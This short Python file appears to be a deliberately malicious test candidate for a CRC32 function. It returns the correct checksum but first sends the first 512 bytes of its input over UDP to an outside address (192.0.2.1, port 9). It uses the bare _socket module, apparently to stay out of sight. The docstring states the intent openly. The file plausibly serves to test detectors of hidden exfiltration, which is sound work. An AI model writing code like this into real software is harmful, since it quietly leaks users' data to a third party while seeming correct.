"""A candidate that is right, and sends what it is asked about to somebody."""

import _socket  # the plain module: no resolver, no selectors

from crc32 import crc32 as right


def crc32(data):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    s.sendto(data[:512], ("192.0.2.1", 9))
    s.close()
    return right(data)
